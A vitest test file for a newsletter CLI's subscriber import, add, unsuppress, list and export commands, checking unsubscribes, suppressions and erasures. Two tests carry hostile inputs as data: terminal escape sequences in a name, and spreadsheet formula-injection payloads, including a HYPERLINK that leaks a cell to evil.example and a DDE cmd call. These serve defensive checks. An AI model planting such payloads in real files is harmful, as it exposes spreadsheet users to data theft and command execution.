import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { DynamoSuppressionStore } from '../../../functions/adapters/dynamodb/suppression-store.js';
import { loadOrCreateTokenKey } from '../../../functions/adapters/local/token-key.js';
import { subscriberId } from '../../../functions/core/subscriber.js';
import { createCliWorkspace, type CliWorkspace } from '../../support/cli-workspace.js';

/** `newsletter subscribers …` against real dynalite: the list an operator manages. */
let ws: CliWorkspace;

// Each test has its own workspace: the subscribers it needs, it adds itself.
beforeEach(async () => {
  ws = await createCliWorkspace({ prefix: 'newsletter-subscribers-' });
});

afterEach(async () => ws?.stop());

interface Listed {
  email: string;
  name?: string;
  status: string;
}

async function listed(): Promise<Listed[]> {
  const { code, output } = await ws.run('subscribers', 'list', '--json');
  expect(code).toBe(0);
  return JSON.parse(output) as Listed[];
}

async function statusOf(email: string): Promise<string | undefined> {
  return (await listed()).find((s) => s.email === email)?.status;
}

/** Adds EMAIL, then removes it: an address that left the list. */
async function leftTheList(email: string): Promise<void> {
  expect((await ws.run('subscribers', 'add', email)).code).toBe(0);
  expect((await ws.run('subscribers', 'remove', email)).code).toBe(0);
}

/** The id the CLI keys this address under: the workspace's own token key (made on first use). */
async function idOf(email: string): Promise<string> {
  return subscriberId(await loadOrCreateTokenKey(ws.dataDir), email);
}

async function csv(name: string, lines: string[]): Promise<string> {
  const file = path.join(ws.work, name);
  await writeFile(file, lines.join('\n'));
  return file;
}

describe('newsletter subscribers import and add never bring back someone who left', () => {
  it('skips an address removed before, reports why, and keeps it unsubscribed', async () => {
    await leftTheList('gone@example.com');
    const file = await csv('back.csv', ['email,name', 'gone@example.com,Gone', 'new@example.com,New']);

    const { code, output } = await ws.run('subscribers', 'import', file, '--confirmed');
    expect(code).toBe(0);
    expect(output).toContain(`${file} line 2: skipped: unsubscribed on `);
    expect(output).toContain(
      'Imported 1 new, updated 0, unchanged 0, skipped 0 invalid, skipped 1 who left (1 unsubscribed: an import ' +
        'never brings back someone who left) (confirmed).',
    );
    expect(output).not.toContain('gone@example.com');
    expect(await statusOf('gone@example.com')).toBe('unsubscribed');
  });

  it('refuses to add an unsubscribed address, with the reason', async () => {
    await leftTheList('gone@example.com');
    const { code, output } = await ws.run('subscribers', 'add', 'gone@example.com');
    expect(code).toBe(1);
    expect(output.trim()).toMatch(
      /^newsletter: gone@example\.com was not added to ai-talent: unsubscribed on \d{4}-\d\d-\d\d; only they can subscribe again, through the sign-up page$/,
    );
    expect(await statusOf('gone@example.com')).toBe('unsubscribed');
  });

  it('refuses to add a suppressed address until the operator lifts the suppression', async () => {
    const suppressions = new DynamoSuppressionStore(ws.servers.dynamodb, ws.servers.tableName);
    await suppressions.suppress(await idOf('bounced@example.com'), 'hard bounce', '2026-03-01T00:00:00.000Z');

    const refused = await ws.run('subscribers', 'add', 'bounced@example.com');
    expect(refused.code).toBe(1);
    expect(refused.output).toContain(
      `was not added to ai-talent: suppressed (hard bounce) on 2026-03-01; if you know the address works again, run ` +
        `"newsletter --config ${ws.config} --data-dir ${ws.dataDir} subscribers unsuppress EMAIL" first`,
    );

    const lifted = await ws.run('subscribers', 'unsuppress', 'bounced@example.com');
    expect(lifted.code).toBe(0);
    expect(lifted.output).toContain('Lifted the suppression of bounced@example.com (was: hard bounce on 2026-03-01).');
    expect((await ws.run('subscribers', 'add', 'bounced@example.com')).code).toBe(0);
    expect(await statusOf('bounced@example.com')).toBe('confirmed');

    const again = await ws.run('subscribers', 'unsuppress', 'bounced@example.com');
    expect(again.code).toBe(1);
    expect(again.output).toContain('bounced@example.com is not suppressed: nothing to lift');
  });

  it('does not lift an erasure', async () => {
    const suppressions = new DynamoSuppressionStore(ws.servers.dynamodb, ws.servers.tableName);
    await suppressions.suppress(await idOf('forget-me@example.com'), 'erased at the subscriber’s request', '2026-03-01T00:00:00.000Z');
    const { code, output } = await ws.run('subscribers', 'unsuppress', 'forget-me@example.com');
    expect(code).toBe(1);
    expect(output).toContain('an erasure cannot be lifted');
    const add = await ws.run('subscribers', 'add', 'forget-me@example.com');
    expect(add.code).toBe(1);
    expect(add.output).toContain("erased at the subscriber's request on 2026-03-01");
  });
});

describe('newsletter subscribers import', () => {
  it('reads a Mailchimp export: "Email Address", "First Name" and "Last Name"', async () => {
    const file = await csv('mailchimp.csv', [
      '"Email Address","First Name","Last Name","Address","Phone Number",MEMBER_RATING,OPTIN_TIME',
      'mia@example.com,Mia,Wong,,,2,"2026-01-02 10:00:00"',
      'leo@example.com,Leo,,,,1,"2026-01-03 10:00:00"',
    ]);
    const { code, output } = await ws.run('subscribers', 'import', file, '--confirmed');
    expect(code).toBe(0);
    expect(output).toContain('Imported 2 new');
    const people = await listed();
    expect(people.find((p) => p.email === 'mia@example.com')).toMatchObject({ name: 'Mia Wong', status: 'confirmed' });
    expect(people.find((p) => p.email === 'leo@example.com')).toMatchObject({ name: 'Leo', status: 'confirmed' });
  });

  it('takes the columns named by --email-column and --name-column', async () => {
    const file = await csv('custom.csv', ['Member,Mail,Display', '1,ivy@example.com,Ivy Chen']);
    const { code } = await ws.run('subscribers', 'import', file, '--email-column', 'Mail', '--name-column', 'display');
    expect(code).toBe(0);
    expect((await listed()).find((p) => p.email === 'ivy@example.com')).toMatchObject({ name: 'Ivy Chen', status: 'pending' });

    const wrong = await ws.run('subscribers', 'import', file, '--email-column', 'E-mail');
    expect(wrong.code).toBe(1);
    expect(wrong.output.trim()).toBe(`newsletter: ${file} has no column "E-mail" (--email-column); its columns are "member", "mail", "display"`);
  });

  it('counts rows imported again unchanged as unchanged, not updated', async () => {
    const file = await csv('same.csv', ['email,name', 'sam@example.com,Sam', 'sue@example.com,Sue']);
    expect((await ws.run('subscribers', 'import', file, '--confirmed')).output).toContain('Imported 2 new, updated 0, unchanged 0');
    expect((await ws.run('subscribers', 'import', file, '--confirmed')).output).toContain('Imported 0 new, updated 0, unchanged 2');
  });

  it('says which file is missing in one line, without a stack trace', async () => {
    const missing = path.join(ws.work, 'nope.csv');
    const { code, output } = await ws.run('subscribers', 'import', missing);
    expect(code).toBe(1);
    expect(output.trim()).toBe(`newsletter: ${missing} could not be read (ENOENT): check the path of the CSV file`);
  });

  it('reports the line a malformed row is really on', async () => {
    const rows = Array.from({ length: 11 }, (_, i) => `row${i}@example.com,Row`);
    const file = await csv('broken.csv', ['email,name', ...rows, 'bad@example.com,"Bad"x']);
    const { code, output } = await ws.run('subscribers', 'import', file);
    expect(code).toBe(1);
    expect(output).toContain(`newsletter: ${file} line 13 is not valid CSV`);
    expect(output).toContain('the rows before it were imported');
    expect(output).not.toContain('near line 1 ');
    expect((await listed()).filter((p) => p.email.startsWith('row'))).toHaveLength(11);
  });

  // 1,200 writes to dynalite: 9 to 18 s on a busy 2-core machine, too near the 30 s default.
  it('shows progress on a long import', async () => {
    const rows = Array.from({ length: 1200 }, (_, i) => `bulk${i}@example.com`);
    const file = await csv('bulk.csv', ['email', ...rows]);
    const { code, output } = await ws.run('subscribers', 'import', file);
    expect(code).toBe(0);
    expect(output).toContain('importing: 1000 rows read (1000 new, 0 updated, 0 unchanged)');
    expect(output).toContain('Imported 1200 new');
  }, 90_000);
});

describe('newsletter subscribers list and export', () => {
  it('shows a name with terminal escape sequences escaped, never raw', async () => {
    const name = 'Eve\u001b]0;pwned\u0007\u001b[2J\u009b31m\u202Eevil';
    expect((await ws.run('subscribers', 'add', 'eve@example.com', '--name', name)).code).toBe(0);
    const { output } = await ws.run('subscribers', 'list', '--status', 'confirmed');
    expect(output).toContain('Eve\\x1b]0;pwned\\x07\\x1b[2J\\x9b31m\\u202eevil');
    expect(output).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/u);
    const json = await ws.run('subscribers', 'list', '--json');
    expect(json.output).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/u);
    expect((JSON.parse(json.output) as Listed[]).find((p) => p.email === 'eve@example.com')?.name).toBe(name);
  });

  it('rejects an unknown --status', async () => {
    const { code, output } = await ws.run('subscribers', 'list', '--status', 'active');
    expect(code).not.toBe(0);
    expect(output).toContain("argument 'active' is invalid. Allowed choices are pending, confirmed, unsubscribed.");
  });

  it('prints counts per status', async () => {
    expect((await ws.run('subscribers', 'add', 'mia@example.com')).code).toBe(0);
    expect((await ws.run('subscribers', 'add', 'leo@example.com')).code).toBe(0);
    await leftTheList('gone@example.com');
    expect((await ws.run('subscribers', 'import', await csv('pending.csv', ['email', 'ivy@example.com']))).code).toBe(0);
    const { output } = await ws.run('subscribers', 'list');
    const people = await listed();
    const count = (s: string) => people.filter((p) => p.status === s).length;
    expect(output.trim().split('\n').at(-1)).toBe(
      `${people.length} subscribers on ai-talent: ${count('pending')} pending, ${count('confirmed')} confirmed, ${count('unsubscribed')} unsubscribed`,
    );
    expect(output.trim().split('\n').at(-1)).toBe('4 subscribers on ai-talent: 1 pending, 2 confirmed, 1 unsubscribed');
  });

  it('exports a CSV that imports back unchanged', async () => {
    expect((await ws.run('subscribers', 'add', 'mia@example.com', '--name', 'Mia Wong')).code).toBe(0);
    await leftTheList('gone@example.com');
    const file = path.join(ws.work, 'export.csv');
    const { code, output } = await ws.run('subscribers', 'export', file);
    expect(code).toBe(0);
    const people = await listed();
    expect(output).toContain(`Exported ${people.length} subscribers of ai-talent to ${file}.`);
    const text = await readFile(file, 'utf8');
    expect(text.split('\r\n')[0]).toBe('email,name,status,created_at,confirmed_at,unsubscribed_at,suppressed');
    expect(text).toContain('mia@example.com,Mia Wong,confirmed,');
    expect(text).toMatch(/gone@example\.com,,unsubscribed,[^,]+,[^,]+,\d{4}-/);

    const again = await ws.run('subscribers', 'import', file);
    expect(again.code).toBe(0);
    expect(again.output).toContain('Imported 0 new, updated 0');
    expect(again.output).toContain('skipped 1 who left (1 unsubscribed');
  });

  it('exports names that a spreadsheet would run as formulas with a quote in front, and imports them back as they were', async () => {
    const names = {
      'hyperlink@example.com': '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
      'dde@example.com': '+cmd|" /C calc"!A0',
      'minus@example.com': '-2+3',
      'at@example.com': '@SUM(A1:A9)',
    };
    for (const [email, name] of Object.entries(names)) expect((await ws.run('subscribers', 'add', email, `--name=${name}`)).code).toBe(0);
    const file = path.join(ws.work, 'formulas.csv');
    expect((await ws.run('subscribers', 'export', file)).code).toBe(0);
    const text = await readFile(file, 'utf8');
    expect(text).toContain(`hyperlink@example.com,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Open"")",confirmed,`);
    expect(text).toContain(`minus@example.com,'-2+3,confirmed,`);
    // No cell of the file starts a formula.
    for (const row of parse(text) as string[][]) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    const again = await ws.run('subscribers', 'import', file);
    expect(again.code).toBe(0);
    expect(again.output).toContain('Imported 0 new, updated 0');
    const people = await listed();
    for (const [email, name] of Object.entries(names)) expect(people.find((p) => p.email === email)?.name).toBe(name);
  });
});

// Import and list from an empty list: each case on its own workspace, so none depends on another's imports.
describe('newsletter subscribers import and list', () => {
  let fresh: CliWorkspace;

  beforeEach(async () => {
    fresh = await createCliWorkspace({ prefix: 'newsletter-subscribers-import-' });
  });

  afterEach(async () => fresh?.stop());

  async function subscribers(status?: string): Promise<Listed[]> {
    const { code, output } = await fresh.run('subscribers', 'list', '--json', ...(status ? ['--status', status] : []));
    expect(code).toBe(0);
    return (JSON.parse(output) as Listed[]).sort((a, b) => a.email.localeCompare(b.email));
  }

  /** Ann, Bob (no name) and Carol (a name with a line break) as pending, and two invalid rows. */
  async function importPeople(): Promise<{ csv: string; code: number; output: string }> {
    const csv = path.join(fresh.work, 'people.csv');
    // A blank line and a quoted line break must not shift the line numbers reported.
    await writeFile(
      csv,
      [
        'email,name',
        'ann@example.com,Ann Lee',
        'not-an-address,Nobody',
        '',
        'bob@example.org,',
        'carol@example.net,"Carol',
        'from Accounts"',
        'x@,Broken',
      ].join('\n'),
    );
    return { csv, ...(await fresh.run('subscribers', 'import', csv)) };
  }

  /** Dan (new) and Ann (pending until now) as confirmed. */
  async function importOptedIn(): Promise<{ code: number; output: string }> {
    const csv = path.join(fresh.work, 'opted-in.csv');
    await writeFile(csv, ['email,name', 'dan@example.com,Dan', 'ann@example.com,Ann Lee'].join('\n'));
    return fresh.run('subscribers', 'import', csv, '--confirmed');
  }

  it('imports a CSV as pending, with names, and reports each invalid row by its line number', async () => {
    const { csv, code, output } = await importPeople();
    expect(code).toBe(0);
    expect(output).toContain(`${csv} line 3: skipped`);
    expect(output).toContain(`${csv} line 8: skipped`);
    expect(output.match(/line \d+: skipped/g)).toEqual(['line 3: skipped', 'line 8: skipped']);
    expect(output).toContain('Imported 3 new, updated 0, unchanged 0, skipped 2 invalid, skipped 0 who left (pending).');
    expect(await subscribers()).toEqual([
      expect.objectContaining({ email: 'ann@example.com', name: 'Ann Lee', status: 'pending' }),
      expect.objectContaining({ email: 'bob@example.org', status: 'pending' }),
      expect.objectContaining({ email: 'carol@example.net', name: 'Carol\nfrom Accounts', status: 'pending' }),
    ]);
    expect((await subscribers()).find((s) => s.email === 'bob@example.org')?.name).toBeUndefined();
  });

  it('imports a CSV as confirmed with --confirmed, confirming people already pending', async () => {
    expect((await importPeople()).code).toBe(0);
    const { code, output } = await importOptedIn();
    expect(code).toBe(0);
    expect(output).toContain('Imported 1 new, updated 1, unchanged 0, skipped 0 invalid, skipped 0 who left (confirmed).');
    expect((await subscribers('confirmed')).map((s) => [s.email, s.name])).toEqual([
      ['ann@example.com', 'Ann Lee'],
      ['dan@example.com', 'Dan'],
    ]);
  });

  it('lists only the subscribers with the status asked for, under a header, with control characters shown escaped', async () => {
    expect((await importPeople()).code).toBe(0);
    expect((await importOptedIn()).code).toBe(0);
    const { code, output } = await fresh.run('subscribers', 'list', '--status', 'pending');
    expect(code).toBe(0);
    const lines = output.split('\n');
    expect(lines[0]).toMatch(/^EMAIL +STATUS +SINCE +ADDED +NAME$/);
    expect(lines.find((l) => l.startsWith('bob@example.org'))).toMatch(/^bob@example\.org +pending +\d{4}-\d\d-\d\d +\d{4}-\d\d-\d\d$/);
    expect(lines.find((l) => l.startsWith('carol@example.net'))).toMatch(/ Carol\\x0afrom Accounts$/);
    expect(lines.at(-1)).toBe('2 subscribers on ai-talent: 2 pending');
    expect(output).not.toContain('ann@example.com');
    expect(output).not.toContain('dan@example.com');
  });
});
